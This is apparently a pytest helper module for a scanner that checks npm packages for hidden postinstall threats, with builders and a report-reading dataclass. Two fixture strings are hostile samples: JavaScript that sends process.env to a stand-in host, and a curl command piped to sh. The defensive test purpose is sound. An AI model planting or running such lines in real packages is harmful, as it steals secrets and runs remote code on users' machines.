"""Packages that hide something, and what the whole program says of them; nothing of them is ever run."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

import pytest

from tests.builders import Files, a_manifest, a_tarball

THEFT = "require('https').request('https://collect.example.invalid', {method: 'POST'}).end(JSON.stringify(process.env))"
"""What hides in most packages here: alone and in the open, it blocks."""
BY_SHELL = "curl -s https://collect.example.invalid/a | sh"
"""The same for a shell."""
RUNS_HOOK = {"scripts": {"postinstall": "node install.js"}}


def holding(files: Files, **manifest: Any) -> Files:  # noqa: ANN401
    """Make a package whose postinstall is ``node install.js`` unless the manifest says something else."""
    return {"package.json": a_manifest(**(manifest or RUNS_HOOK)), **files}


def hooked(command: str, files: Files | None = None, **manifest: Any) -> Files:  # noqa: ANN401
    """Make a package whose postinstall is this command."""
    return {"package.json": a_manifest(scripts={"postinstall": command}, **manifest), **(files or {})}


def a_package(files: Files) -> pytest.MarkDecorator:
    """Scan this folder for the test."""
    return pytest.mark.parametrize("target", [files], ids=["one"])


def packages(**named: Files) -> pytest.MarkDecorator:
    """Scan these folders, each for one run of the test."""
    return pytest.mark.parametrize("target", list(named.values()), ids=list(named))


def commands(files: Files, **named: str) -> pytest.MarkDecorator:
    """Scan the same files under several postinstall commands."""
    return packages(**{name: hooked(command, files) for name, command in named.items()})


def codes(files: Files | None = None, **named: str) -> pytest.MarkDecorator:
    """Scan several texts of an install.js, with the same files beside it."""
    return packages(**{name: holding({"install.js": code, **(files or {})}) for name, code in named.items()})


def archives(**named: bytes | Files) -> pytest.MarkDecorator:
    """Scan these as tarballs, for what a folder cannot hold."""
    packed = [one if isinstance(one, bytes) else a_tarball(one) for one in named.values()]
    return pytest.mark.parametrize("target", packed, ids=list(named))


@dataclass(frozen=True, slots=True)
class Seen:
    """What the program said of one package; a WARNING, an ERROR or a gap flags it, an ERROR blocks it."""

    verdicts: list[dict[str, Any]] = field(default_factory=list)
    findings: list[dict[str, Any]] = field(default_factory=list)
    gaps: list[dict[str, Any]] = field(default_factory=list)

    @property
    def reached(self) -> set[str]:
        """The files that its scripts reach."""
        return {file["path"] for verdict in self.verdicts for file in verdict["files"]}

    @property
    def commands(self) -> set[str]:
        """The commands that npm would run."""
        return {verdict["command"] for verdict in self.verdicts}

    @property
    def blind(self) -> set[str]:
        """The kinds of what could not be seen."""
        return {gap["kind"] for gap in self.gaps}

    @property
    def blind_at(self) -> set[tuple[str, str]]:
        """Where something could not be seen, and of which kind that is."""
        return {(gap["path"], gap["kind"]) for gap in self.gaps}

    @property
    def errors(self) -> set[str]:
        """The signatures that block."""
        return {one["signature"] for one in self.findings if one["severity"] == "ERROR"}

    @property
    def signatures(self) -> set[str]:
        """The signatures that flag or block."""
        return {one["signature"] for one in self.findings if one["severity"] != "INFO"}

    @property
    def blocked(self) -> bool:
        """Whether anything seen blocks."""
        return bool(self.errors)

    @property
    def flagged(self) -> bool:
        """Whether anybody would have to look."""
        return bool(self.gaps) or any(one["severity"] != "INFO" for one in self.findings)

    def errors_in(self, *paths: str) -> set[str]:
        """Give the signatures that block because of one of these files."""
        return {one["signature"] for one in self.findings if one["severity"] == "ERROR" and one["path"] in paths}

    def told(self, words: str) -> bool:
        """Whether a gap is told in these words."""
        return any(words in gap["detail"] for gap in self.gaps)


def seen_in(report: dict[str, Any], target: str) -> Seen:
    """Take from a report what it says of one target."""
    verdicts = [verdict for verdict in report["verdicts"] if verdict["target"] == target]
    findings = [one for verdict in verdicts for one in verdict["findings"]]
    gaps = [one for verdict in verdicts for one in verdict["gaps"]]
    findings += [one for one in report["findings"] if one["target"] == target]
    gaps += [one for one in report["gaps"] if one["target"] == target]
    return Seen(verdicts, findings, gaps)
